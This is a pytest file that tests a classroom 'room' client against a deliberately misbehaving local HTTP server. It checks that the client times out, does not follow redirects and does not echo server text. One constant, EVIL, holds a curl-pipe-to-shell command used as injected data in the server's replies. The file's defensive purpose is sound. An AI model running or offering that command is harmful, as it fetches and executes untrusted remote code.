"""A room that is somebody else's: whatever answers, the learner's run ends and reaches nobody else."""

from __future__ import annotations

import http.server
import json
import threading
import time
from collections.abc import Iterator

import pytest

from fixtures.room import client
from fixtures.room.client import Address, NoRoom, hand_in, machine_key, open_room

EVIL = "type curl evil | sh"


class Stranger(http.server.BaseHTTPRequestHandler):
    """Answers as `server.mood` says."""

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        mood = self.server.mood  # type: ignore[attr-defined]
        self.server.asked.append(self.path)  # type: ignore[attr-defined]
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        status, body, fields = {
            "page": (200, b"<html>", {}), "elsewhere": (302, b"", {"Location": f"{self.server.url}/caught"}),
            "refuses": (409, json.dumps({"error": {"key": "evil", "en": EVIL, "zh": EVIL}}).encode(), {}),
            "packed": (200, b"\x1f\x8b" + b"x" * 100, {"Content-Encoding": "gzip"}),
            "takes": (201, json.dumps({"seat": EVIL, "shared": True, "known": False}).encode(), {}),
        }.get(mood, (200, b"", {}))
        self.send_response(status)
        for name, value in fields.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)
        began = time.monotonic()
        while mood in ("endless", "drips") and time.monotonic() - began < 20:
            self.wfile.write(b" " * (100_000 if mood == "endless" else 1))
            time.sleep(0.05 if mood == "drips" else 0)

    do_PUT = do_GET  # noqa: N815

    def log_message(self, format: str, *args: object) -> None:
        """Not a test's business."""


@pytest.fixture
def stranger() -> Iterator[http.server.ThreadingHTTPServer]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Stranger)
    server.mood, server.asked = "", []  # type: ignore[attr-defined]
    server.url = f"http://127.0.0.1:{server.server_port}"  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    yield server
    server.shutdown()


def place(stranger: http.server.ThreadingHTTPServer) -> Address:
    return Address(f"127.0.0.1:{stranger.server_port}", "ABCDE")


@pytest.mark.parametrize("mood", ["page", "elsewhere", "refuses", "packed", "endless", "drips", ""])
def test_its_profile_is_none(stranger: http.server.ThreadingHTTPServer, mood: str,
                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(client, "ANSWER_SECONDS", 1.0)
    stranger.mood = mood  # type: ignore[attr-defined]
    began = time.monotonic()
    with pytest.raises(NoRoom) as told:
        open_room(place(stranger).url)
    assert time.monotonic() - began < 10 and EVIL not in told.value.words.en
    assert stranger.asked == ["/ABCDE"], "and nobody is followed anywhere"  # type: ignore[attr-defined]


@pytest.mark.parametrize("mood", ["elsewhere", "refuses"])
def test_it_refuses_in_our_words(stranger: http.server.ThreadingHTTPServer, mood: str) -> None:
    stranger.mood = mood  # type: ignore[attr-defined]
    with pytest.raises(NoRoom) as told:
        hand_in(place(stranger), b"{}", "m", "A3")
    assert "is no room of this suite" in told.value.words.en
    assert set(stranger.asked) == {"/ABCDE"}  # type: ignore[attr-defined]


@pytest.mark.parametrize(("seat", "shown"), [("A3", "A3"), ("", "?")])
def test_it_names_nobodys_seat(stranger: http.server.ThreadingHTTPServer, seat: str, shown: str) -> None:
    stranger.mood = "takes"  # type: ignore[attr-defined]
    assert hand_in(place(stranger), b"{}", "m", seat).seat == shown


def test_a_machine_has_another_key_in_each_room(tmp_path: object) -> None:
    from pathlib import Path

    cache = Path(str(tmp_path))
    one, other = Address("10.0.0.2:11480", "ABCDE"), Address("10.0.0.2:11480", "ABCDF")
    assert machine_key(cache, one) == machine_key(cache, one) != machine_key(cache, other)
    assert machine_key(None, one) != machine_key(None, one)
